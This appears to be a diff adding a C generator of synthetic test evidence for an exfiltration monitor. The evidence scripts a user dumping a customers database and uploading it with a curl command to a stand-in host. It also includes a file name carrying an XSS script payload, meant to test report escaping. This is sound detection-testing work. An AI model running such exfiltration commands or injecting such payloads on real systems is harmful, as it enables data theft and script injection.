@@ -1,0 +1,129 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Writes a small evidence store with known figures through the real writer, for the
+ * report test and as the fuzz corpus seed. Session 7 (alice, from 10.9.8.7) dumps a
+ * database and a file with a hostile name, stages them and uploads them in two slices;
+ * session 8 (bob) reads a little. Figures the test checks: alice collected 4500000
+ * bytes, sent 4000000, staged 4500000; alerts bulk_collection_bytes and exfiltration
+ * (revision 2 at 4000000); two gaps touch session 7 (its own and one for all sessions).
+ * usage: gen_evidence DIR [FILLER_RECORDS]
+ */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "evidence.h"
+
+#define SEC 1000000000ULL
+#define T0 (1795000000ULL * SEC)
+
+static struct evidence *ev;
+
+static void put(const char *type, uint64_t ts, const char *json)
+{
+	if (evidence_append(ev, type, ts, json, strlen(json), NULL)) {
+		fprintf(stderr, "gen_evidence: append %s failed\n", type);
+		exit(1);
+	}
+}
+
+static void activity(uint64_t at, unsigned sid, unsigned pid, const char *comm,
+		     const char *kind, const char *object, unsigned long long bytes)
+{
+	char json[1024];
+
+	snprintf(json, sizeof(json),
+		 "{\"session_id\":%u,\"loginuid\":%u,\"uid\":%u,\"pid\":%u,\"comm\":\"%s\","
+		 "\"exe\":\"/usr/bin/%s\",\"kind\":\"%s\",\"object\":\"%s\",\"bytes\":%llu,"
+		 "\"ops\":10,\"first_ns\":%llu,\"last_ns\":%llu}",
+		 sid, 1094 + sid, 1094 + sid, pid, comm, comm, kind, object, bytes,
+		 (unsigned long long)(T0 + at * SEC - SEC), (unsigned long long)(T0 + at * SEC));
+	put("activity", T0 + at * SEC, json);
+}
+
+static void alert(uint64_t at, unsigned id, unsigned rev, const char *rule,
+		  unsigned long long src, unsigned long long out)
+{
+	char json[2048];
+
+	snprintf(json, sizeof(json),
+		 "{\"@timestamp\":\"2026-11-18T20:%02llu:00Z\",\"event\":{\"kind\":\"alert\"},"
+		 "\"rule\":{\"name\":\"%s\"},\"user\":{\"name\":\"alice\",\"id\":\"1101\"},"
+		 "\"host\":{\"name\":\"ws1\"},\"exfilmon\":{\"alert_id\":%u,\"revision\":%u,"
+		 "\"session_id\":7,\"loginuid\":1101,\"tty\":\"pts/1\",\"remote_host\":\"10.9.8.7\","
+		 "\"source_bytes\":%llu,\"egress_bytes\":%llu,\"threshold\":1000000,"
+		 "\"sources\":[{\"name\":\"127.0.0.2:5432\",\"bytes\":3000000}],"
+		 "\"destinations\":[{\"name\":\"127.0.0.77:8080\",\"bytes\":%llu}],"
+		 "\"processes\":[{\"name\":\"curl\",\"pid\":502,\"bytes\":%llu}],"
+		 "\"evidence_first_seq\":3,\"evidence_last_seq\":20,\"config_sha256\":\"ab\"}}",
+		 (unsigned long long)at, rule, id, rev, src, out, out, out);
+	put("alert", T0 + at * SEC, json);
+}
+
+static void story(void)
+{
+	put("agent", T0, "{\"event\":\"start\",\"host\":\"ws1\",\"version\":\"0.1.0\","
+			 "\"hooks\":\"fexit\",\"config_sha256\":\"ab\"}");
+	put("config", T0, "{\"sha256\":\"ab\",\"path\":\"/etc/exfilmon/exfilmon.yaml\"}");
+	put("session", T0 + SEC, "{\"session_id\":7,\"loginuid\":1101,\"uid\":1101,"
+				 "\"user\":\"alice\",\"tty\":\"pts/1\",\"remote_host\":\"10.9.8.7\","
+				 "\"display\":null,\"login_ns\":1795000001000000000}");
+	put("session", T0 + 2 * SEC, "{\"session_id\":8,\"loginuid\":1102,\"uid\":1102,"
+				     "\"user\":\"bob\",\"tty\":\"pts/2\",\"remote_host\":\"\","
+				     "\"login_ns\":1795000002000000000}");
+	put("process", T0 + 3 * SEC, "{\"event\":\"exec\",\"pid\":500,\"ppid\":400,"
+				     "\"session_id\":7,\"loginuid\":1101,\"uid\":1101,\"comm\":"
+				     "\"bash\",\"exe\":\"/usr/bin/bash\",\"args\":\"-bash\"}");
+	put("process", T0 + 4 * SEC, "{\"event\":\"exec\",\"pid\":501,\"ppid\":500,"
+				     "\"session_id\":7,\"comm\":\"psql\",\"exe\":\"/usr/bin/psql\","
+				     "\"args\":\"psql -h 127.0.0.2 -c \\\\copy customers to "
+				     "'/tmp/<b>c</b>.csv'\"}");
+	put("connect", T0 + 4 * SEC, "{\"session_id\":7,\"pid\":501,\"comm\":\"psql\","
+				     "\"direction\":\"connect\",\"proto\":\"tcp\",\"local_ip\":"
+				     "\"127.0.0.1\",\"local_port\":40000,\"remote_ip\":\"127.0.0.2\","
+				     "\"remote_port\":5432,\"class\":\"source\"}");
+	activity(5, 7, 501, "psql", "source_net", "127.0.0.2:5432", 3000000);
+	activity(6, 7, 501, "psql", "source_file", "/srv/customers/<script>alert(1)</script>&x.csv",
+		 1500000);
+	activity(6, 8, 600, "less", "source_file", "/srv/customers/one.csv", 1000);
+	activity(7, 7, 501, "psql", "staging", "/tmp/c.csv", 4500000);
+	alert(7, 1, 1, "bulk_collection_bytes", 4500000, 0);
+	put("gap", T0 + 8 * SEC, "{\"session_id\":7,\"what\":\"file_open\",\"count\":12,"
+				 "\"first_ns\":1795000007000000000,\"last_ns\":1795000008000000000,"
+				 "\"reason\":\"ring buffer full\"}");
+	put("process", T0 + 9 * SEC, "{\"event\":\"exec\",\"pid\":502,\"ppid\":500,"
+				     "\"session_id\":7,\"comm\":\"curl\",\"exe\":\"/usr/bin/curl\","
+				     "\"args\":\"curl -T /tmp/c.csv http://127.0.0.77:8080/up\"}");
+	activity(10, 7, 502, "curl", "egress_net", "127.0.0.77:8080", 2000000);
+	alert(10, 2, 1, "exfiltration", 4500000, 2000000);
+	put("gap", T0 + 11 * SEC, "{\"session_id\":null,\"what\":\"exec\",\"count\":3,"
+				  "\"first_ns\":1795000010000000000,\"last_ns\":1795000011000000000,"
+				  "\"reason\":\"ring buffer full\"}");
+	activity(12, 7, 502, "curl", "egress_net", "127.0.0.77:8080", 2000000);
+	alert(12, 2, 2, "exfiltration", 4500000, 4000000);
+	put("process", T0 + 13 * SEC, "{\"event\":\"exit\",\"pid\":502,\"session_id\":7,"
+				      "\"comm\":\"curl\"}");
+}
+
+int main(int argc, char **argv)
+{
+	struct evidence_opts o = { .block_bytes = 2048, .segment_bytes = 4096 };
+	long filler = argc > 2 ? strtol(argv[2], NULL, 10) : 0;
+
+	if (argc < 2) {
+		fprintf(stderr, "usage: gen_evidence DIR [FILLER_RECORDS]\n");
+		return 2;
+	}
+	o.dir = argv[1];
+	ev = evidence_open(&o);
+	if (!ev) {
+		perror(argv[1]);
+		return 1;
+	}
+	/* Bob's filler comes first, so alice's blocks sit after many she is not in. */
+	for (long i = 0; i < filler; i++)
+		activity(2, 8, 600, "less", "source_file", "/srv/customers/filler.csv", 1);
+	story();
+	evidence_close(ev);
+	return 0;
+}
